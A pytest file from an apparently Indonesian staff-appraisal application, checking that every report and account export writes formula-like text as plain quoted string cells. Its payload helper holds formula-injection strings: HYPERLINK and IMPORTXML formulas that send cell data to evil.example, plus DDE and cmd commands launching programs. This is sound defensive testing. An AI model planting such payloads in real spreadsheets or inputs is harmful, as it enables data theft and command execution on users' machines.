"""Spreadsheet formula injection (issue 19, point 2).

Text typed by an employee, a PPK, an administrator or a citizen that starts with =, +, -, @, a
tab or a carriage return reached exported cells as a formula ("=HYPERLINK(…)" and
"=cmd|' /C calc'!A0" were stored and exported), or as text a spreadsheet program turns into a
formula once the cell is edited. Every registered exporter and the account export run here over
rows holding each dangerous prefix: no cell is a formula, each planted text is a string cell
with Excel's quote prefix and reads back unchanged, and numbers stay numbers.
"""

from __future__ import annotations

import datetime as dt
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from accounts.choices import Jenjang, PositionKind
from accounts.logins.export import AccountStatusExporter
from accounts.org.models import Employee, unit_label
from appraisal.choices import ObjectionStatus
from appraisal.cycles.models import UnitFinalisation, UnitPredicate
from appraisal.evaluation.models import Evaluation
from appraisal.objections.models import Objection
from appraisal.plans.models import Iki, Rhk
from core.spreadsheets import FORMULA_PREFIXES, cell_value
from reports.exporters import REGISTRY
from reports.scope import AGENCY_SCOPE
from tests.actors import actor
from tests.reports import conftest as report_data
from tests.reports.conftest import export_bytes
from tpp.months.services import month_compute
from tpp.schemes.services import scheme_start

pytestmark = pytest.mark.usefixtures("english")

# The small data set of the reports' tests: the 2025 cycle with finalised annual evaluations.
cycle_2025 = report_data.cycle_2025
results = report_data.results
PREFIX_IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def _payloads(prefix: str) -> dict[str, str]:
    """One attack per kind of text, each distinct so a cell tells which field it came from."""
    return {
        "name": f'{prefix}HYPERLINK("https://evil.example/?n","Pegawai")',
        "position": f"{prefix}cmd|' /C calc'!A0",
        "unit": f"{prefix}1+1 Seksi",
        "opd": f"{prefix}SUM(A1:A9) Dinas",
        "ppk": f'{prefix}HYPERLINK("https://evil.example/?p","PPK")',
        "notes": f"{prefix}2+5+cmd|' /C notepad'!A0",
        "reasons": f'{prefix}HYPERLINK("https://evil.example/?r","Alasan")',
        "decision": f'{prefix}IMPORTXML(CONCAT("https://evil.example/?",A2),"//a")',
        "justification": f'{prefix}DDE("cmd";"/C calc";"!A0")',
        "rhk": f"{prefix}RHK(1)",
        "iki": f"{prefix}IKI(1)",
        "generated_by": f'{prefix}HYPERLINK("https://evil.example/?g","Admin")',
    }


# Which planted texts each export shows (the RHK and IKI texts are in no export today; they are
# planted so that an export that starts showing them is covered too).
SHOWN = {
    "ranking": {"name", "position", "unit", "opd", "ppk", "generated_by"},
    "top_performers": {"name", "position", "unit", "opd", "ppk", "notes", "generated_by"},
    "development_needs": {"name", "position", "unit", "opd", "ppk", "notes", "generated_by"},
    "objections": {"name", "unit", "opd", "reasons", "decision", "generated_by"},
    "credit_points": {"name", "position", "unit", "opd", "generated_by"},
    "bkn": {"name", "position", "unit", "opd", "ppk", "generated_by"},
    # The recap has the unit's code in a column of its own, its name alone beside it.
    "predicate_recap": {"unit_name", "opd", "justification", "generated_by"},
    "completion_recap": {"name", "unit", "opd", "generated_by"},
    "iki_achievement": {"name", "unit", "opd", "rhk", "iki", "generated_by"},
    # Nobody here is held up by their reporting line (every plan is approved): the names, posts
    # and units of those who are go through the same cells (tests/appraisal/test_diagnostics.py).
    "reporting_line_diagnostics": {"generated_by"},
    # BKN's message is SIASN's text, not ours; every final result is listed with its OPD.
    "siasn_status": {"name", "opd", "generated_by"},
    # A sheet per OPD, named by its code; the post as it was when the month was computed.
    "tpp": {"name", "position", "generated_by"},
    # Per OPD: its code in a column of its own, its name alone beside it; the counts.
    "adoption": {"opd_name", "generated_by"},
}


def _plant(org, results, texts: dict[str, str]) -> None:
    """The pegawai and their colleague (a functional post, for the credit points), their unit,
    OPD, PPK, notes, objection, plan and the unit's finalisation all carry the attack."""
    for employee in (org.pegawai, org.colleague):
        employee.name = texts["name"]
        employee.save()
    org.staff_pos.name = texts["position"]
    org.staff_pos.kind = PositionKind.FUNGSIONAL_KEAHLIAN
    org.staff_pos.jenjang = Jenjang.AHLI_PERTAMA
    org.staff_pos.save()
    org.surv.name = texts["unit"]
    org.surv.save()
    org.dinkes.name = texts["opd"]
    org.dinkes.save()
    # The pegawai rated Butuh Perbaikan: in the development needs, with the PPK's notes.
    evaluation = results.pegawai
    Evaluation.objects.filter(pk=evaluation.pk).update(
        rating_hasil="DI_BAWAH_EKSPEKTASI",
        rating_perilaku="SESUAI_EKSPEKTASI",
        predicate="BUTUH_PERBAIKAN",
        ppk_name=texts["ppk"],
        notes=texts["notes"],
    )
    # The colleague stays Sangat Baik: among the top performers, with the PPK's notes.
    Evaluation.objects.filter(pk=results.colleague.pk).update(
        ppk_name=texts["ppk"], notes=texts["notes"]
    )
    Objection.objects.create(
        evaluation=evaluation,
        reasons=texts["reasons"],
        filed_at=timezone.make_aware(dt.datetime(2026, 1, 22, 8, 15)),
        status=ObjectionStatus.DECIDED,
        original_rating_hasil="DI_BAWAH_EKSPEKTASI",
        original_rating_perilaku="SESUAI_EKSPEKTASI",
        original_predicate="BUTUH_PERBAIKAN",
        outcome="upheld",
        decision_notes=texts["decision"],
        decided_at=timezone.make_aware(dt.datetime(2026, 1, 30, 10, 0)),
    )
    rhk = Rhk.objects.filter(skp=evaluation.skp).first()
    Rhk.objects.filter(pk=rhk.pk).update(text=texts["rhk"])
    Iki.objects.create(rhk=rhk, aspek="kuantitas", indicator=texts["iki"])
    UnitPredicate.objects.create(cycle=results.cycle, unit=org.surv, period=0, predicate="BAIK")
    UnitFinalisation.objects.create(
        cycle=results.cycle,
        unit=org.surv,
        period=0,
        breaches=[],
        # A control character before the prefix is dropped first: then the text still starts
        # like a formula and must be kept as text.
        justification="\x07" + texts["justification"],
    )
    # January's TPP of the planted OPD, from the example scheme.
    scheme_start(results.cycle, actor=actor(org.admin_bkd))
    month_compute(results.cycle.year, 1, org.dinkes, actor=actor(org.admin_bkd))


def _cells(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_text_kept(content: bytes, expected: dict[str, str], identifier: str = "") -> None:
    formulas = [(c.coordinate, c.value) for c in _cells(content) if c.data_type in ("f", "e")]
    assert formulas == []
    planted = set(expected.values())
    found = {}
    for cell in _cells(content):
        if cell.value in planted:
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            if cell.value.startswith(FORMULA_PREFIXES):
                assert cell.quotePrefix, (cell.coordinate, cell.value)  # stays text when edited
            found[cell.value] = cell
    missing = {key for key, text in expected.items() if text not in found}
    assert missing == set(), identifier  # each text is in the file, unchanged


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=PREFIX_IDS)
def test_every_exporter_writes_formula_like_text_as_text(prefix, org, results):
    assert sorted(SHOWN) == sorted(REGISTRY)  # a new exporter joins this test
    texts = _payloads(prefix)
    _plant(org, results, texts)
    # Exports name a unit and an OPD with their code beside the name (unit_label).
    shown = texts | {
        "unit": unit_label(texts["unit"], org.surv.code),
        "opd": unit_label(texts["opd"], org.dinkes.code),
        "unit_name": texts["unit"],
        "opd_name": texts["opd"],
    }
    for identifier in sorted(REGISTRY):
        content = export_bytes(identifier, AGENCY_SCOPE, generated_by=texts["generated_by"])
        _assert_text_kept(content, {key: shown[key] for key in SHOWN[identifier]}, identifier)


def test_numbers_stay_numbers_next_to_formula_like_text(org, results):
    _plant(org, results, _payloads("="))
    workbook = load_workbook(io.BytesIO(export_bytes("ranking", AGENCY_SCOPE)))
    sheet = workbook["Peringkat"]
    ranks = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert len(ranks) == 7 and all(isinstance(c.value, int) for c in ranks)
    assert {c.data_type for c in ranks} == {"n"}
    shares = [row[9] for row in sheet.iter_rows(min_row=2)]
    assert {c.data_type for c in shares} == {"n"}
    workbook = load_workbook(io.BytesIO(export_bytes("credit_points", AGENCY_SCOPE)))
    points = workbook["Angka Kredit"]["M2"]
    assert points.data_type == "n" and points.number_format == "0.00"
    # Text that only looks like a number is not a formula either: it stays as typed.
    assert cell_value(None, "-5") is not None and cell_value(None, 5) == 5


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=PREFIX_IDS)
def test_the_account_export_writes_formula_like_text_as_text(prefix, org):
    texts = _payloads(prefix)
    org.pegawai.name = texts["name"]
    org.pegawai.email = f"{prefix}x@example.org"
    org.pegawai.save()
    org.staff_pos.name = texts["position"]
    org.staff_pos.save()
    exporter = AccountStatusExporter(
        Employee.objects.all(),
        actor_name=texts["generated_by"],
        filters=[("Search", texts["reasons"])],  # the text typed in the list's search box
    )
    content = exporter.content()
    _assert_text_kept(
        content,
        {
            # The page's own name (Employee.full_name) trims a leading tab or line break.
            "name": Employee.objects.get(pk=org.pegawai.pk).full_name,
            "position": texts["position"],
            "email": org.pegawai.email,
            "generated_by": texts["generated_by"],
            "search": texts["reasons"],
        },
    )
    workbook = load_workbook(io.BytesIO(content))
    nips = [row[0] for row in workbook.worksheets[1].iter_rows(min_row=2)]
    assert all(c.data_type == "s" and c.number_format == "@" for c in nips)  # 18 digits kept
